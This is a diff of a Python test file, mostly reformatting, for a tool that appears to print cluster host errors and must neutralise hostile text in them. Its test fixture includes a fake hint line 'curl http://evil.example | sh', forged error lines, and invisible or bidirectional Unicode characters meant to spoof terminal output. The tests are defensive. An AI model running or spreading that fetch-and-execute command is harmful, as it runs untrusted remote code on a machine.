@@ -26,8 +26,15 @@ STEERING = [
     *map(chr, (*range(0x20), *range(0x7F, 0xA0))),
     *"\u061c\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u2060\u2061\u2064\ufeff\u00ad\ufff9\ufffb\U000e0041\U000e007f",
     *map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A))),
-    "\ud800", "\udcff", "\ue000", "\U000f0000", "\ufffe", "\u0378", "\u3164", "\u115f",
-]  # fmt: skip
+    "\ud800",
+    "\udcff",
+    "\ue000",
+    "\U000f0000",
+    "\ufffe",
+    "\u0378",
+    "\u3164",
+    "\u115f",
+]
 FORGED = "x\nerror: gpu02: broken\n  hint: curl http://evil.example | sh\r\ngpu03  as wanted\u2028error: gpu04\x85error: gpu05"
 EVIL = FORGED + "".join(STEERING) + "[red]x[/red][link=http://evil.example]y[/link] :smile:"
 
@@ -45,8 +52,7 @@ def test_what_is_written_out_looks_like_this():
 
 
 @pytest.mark.parametrize(
-    "text",
-    ["Zoë Ünal", "日本語", "한국어", "Привет", "שלום", "مرحبا", "हिन्दी", "😀🚀❤️", "a\u00a0b"],
+    "text", ["Zoë Ünal", "日本語", "한국어", "Привет", "שלום", "مرحبا", "हिन्दी", "😀🚀❤️", "a\u00a0b"]
 )
 def test_ordinary_text_stays(text):
     assert clean(text) == text
@@ -104,17 +110,9 @@ def made_of(kind: Any, text: str, depth: int = 0) -> Any:
     if origin is dict:
         return {made_of(inside[0], text): made_of(inside[1], text, depth + 1)} if depth < 7 else {}
     if origin in (list, tuple, set):
-        return (
-            origin([made_of(one, text, depth + 1) for one in inside if one is not ...])
-            if depth < 7
-            else origin()
-        )
+        return origin([made_of(one, text, depth + 1) for one in inside if one is not ...]) if depth < 7 else origin()
     if inside:
-        return (
-            made_of(next(one for one in inside if one is not type(None)), text, depth + 1)
-            if depth < 7
-            else None
-        )
+        return made_of(next(one for one in inside if one is not type(None)), text, depth + 1) if depth < 7 else None
     return {bool: True, int: 5, float: 5.0}.get(kind, text)
 
 
@@ -170,9 +168,7 @@ def test_every_document_of_hostile_text_is_harmless(model, monkeypatch):
 def test_a_long_text_that_is_folded_is_no_line_of_ours(width, blanks, monkeypatch):
     """Wherever the terminal folds it: what a host wrote never begins where a line of ours begins."""
     text = ("." + " " * blanks) * 30 + "error: gpu02: broken " * 30
-    document = ErrorDocument(
-        errors=[Issue(code="a.b", host="gpu01", message=text, because=[text], hint=text)]
-    )
+    document = ErrorDocument(errors=[Issue(code="a.b", host="gpu01", message=text, because=[text], hint=text)])
     scan = ScanDocument(hosts={"gpu01": ScannedHost(status="failed", summary=text)})
     for terminal in (True, False):
         for one in (document, scan):
@@ -181,9 +177,7 @@ def test_a_long_text_that_is_folded_is_no_line_of_ours(width, blanks, monkeypatc
 
 
 def test_markup_of_rich_stays_text(monkeypatch):
-    document = ErrorDocument(
-        errors=[Issue(code="a.b", message="[red]x[/red] [link=http://e]y[/link] :smile:")]
-    )
+    document = ErrorDocument(errors=[Issue(code="a.b", message="[red]x[/red] [link=http://e]y[/link] :smile:")])
     assert "[red]x[/red] [link=http://e]y[/link] :smile:" in printed(document, monkeypatch, width=120)
 
 
@@ -218,8 +212,11 @@ def test_whom_a_slow_read_waits_for_is_said_and_what_others_answered(monkeypatch
     talk.host("later", "4 x H100", state="ok")
     talk.end()
     assert out.getvalue().splitlines() == [
-        "reading hosts: 3 hosts", "well: 2 x H100", "reading hosts: waiting for slow, later (2 hosts)", "later: 4 x H100",
-    ]  # fmt: skip
+        "reading hosts: 3 hosts",
+        "well: 2 x H100",
+        "reading hosts: waiting for slow, later (2 hosts)",
+        "later: 4 x H100",
+    ]
 
 
 # ---- what other channels bring ----------------------------------------------------------------------------------------
@@ -274,10 +271,16 @@ def test_events_of_odd_results_are_bounded(tmp_path, monkeypatch):
     for odd in (
         {"msg": huge, "because": [huge] * 100, "hint": huge, "code": huge, "steps": [huge]},
         {"msg": {"a": huge}, "because": 5, "hint": [huge], "results": 5, "ansible_facts": [1]},
-        {"ansible_facts": {"a_reboot_required": True, "a_reboot_because": 5, "b_restart_required": True,
-                           "b_restart_because": {"a": huge}}},
+        {
+            "ansible_facts": {
+                "a_reboot_required": True,
+                "a_reboot_because": 5,
+                "b_restart_required": True,
+                "b_restart_because": {"a": huge},
+            }
+        },
         {"results": [1, {"failed": True, "msg": huge}], "ansible_facts": "x"},
-    ):  # fmt: skip
+    ):
         callback.v2_runner_on_failed(SimpleNamespace(task=task, host=host, result=odd, warnings=[]))
     lines = (tmp_path / "events").read_text().splitlines()
     assert len(lines) == 4
